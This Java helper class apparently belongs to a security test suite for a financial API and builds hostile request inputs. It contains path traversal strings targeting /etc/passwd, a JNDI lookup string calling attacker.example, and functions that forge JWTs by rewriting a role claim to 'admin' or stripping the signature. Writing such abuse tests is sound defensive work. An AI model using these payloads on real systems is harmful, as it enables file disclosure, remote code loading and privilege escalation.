package com.finflow.localstack.flow;

import com.nimbusds.jose.util.Base64URL;
import com.nimbusds.jwt.PlainJWT;
import com.nimbusds.jwt.SignedJWT;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.text.ParseException;
import java.util.Random;
import java.util.UUID;

/** The bodies, path segments and tokens hostile requests are made of. */
final class AbuseBodies {

  static final String JSON_TYPE = "application/json";
  static final int MIB = 1 << 20;
  static final String TRAVERSAL = "..%2F..%2F..%2Fetc%2Fpasswd";
  static final String DOTS_TRAVERSAL = "%2e%2e%2f%2e%2e%2fetc%2fpasswd";
  static final String JNDI = "${jndi:ldap://attacker.example/a}";

  private AbuseBodies() {}

  static String bulk(Tenant debtor) {
    return debtor.bulkOf(1, new Random(), "partial").toString();
  }

  static String openAccount(String iban, String balance) {
    return "{\"iban\":\""
        + iban
        + "\",\"bic\":\""
        + Tenant.BIC
        + "\",\"currency\":\"EUR\",\"initial_balance\":\""
        + balance
        + "\"}";
  }

  static String newIban() {
    return org.iban4j.Iban.random(org.iban4j.CountryCode.FR).toString();
  }

  static String registration(String organizationName) {
    return "{\"email\":\"abuse-"
        + UUID.randomUUID()
        + "@example.com\",\"password\":\"correct horse battery staple\",\"organization_name\":\""
        + organizationName
        + "\"}";
  }

  static String extraction(String cpf, String moreMembers) {
    return "{\"name\":\"My App\",\"organization_name\":\"My Organization\",\"organization_id\":\"123\","
        + "\"user_document_number\":\""
        + cpf
        + "\""
        + moreMembers
        + "}";
  }

  static String withMember(String object, String name, String value) {
    return object.substring(0, object.length() - 1) + ",\"" + name + "\":\"" + value + "\"}";
  }

  /** The JSON object followed by white space up to {@code size} bytes. */
  static String padded(String object, int size) {
    return object + " ".repeat(size - utf8(object).length);
  }

  /** The text's UTF-8 with {@code marker} replaced by raw bytes. */
  static byte[] spliced(String text, String marker, byte[] raw) {
    int at = text.indexOf(marker);
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(utf8(text.substring(0, at)));
    out.writeBytes(raw);
    out.writeBytes(utf8(text.substring(at + marker.length())));
    return out.toByteArray();
  }

  static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }

  static String encoded(String segment) {
    return java.net.URLEncoder.encode(segment, StandardCharsets.UTF_8).replace("+", "%20");
  }

  static String forgedAdmin(String token) {
    String[] parts = token.split("\\.");
    String claims = new String(Base64URL.from(parts[1]).decode(), StandardCharsets.UTF_8);
    return parts[0]
        + "."
        + Base64URL.encode(claims.replace("\"member\"", "\"admin\""))
        + "."
        + parts[2];
  }

  static String unsigned(String token) {
    try {
      return new PlainJWT(SignedJWT.parse(token).getJWTClaimsSet()).serialize();
    } catch (ParseException e) {
      throw new IllegalStateException(e);
    }
  }
}
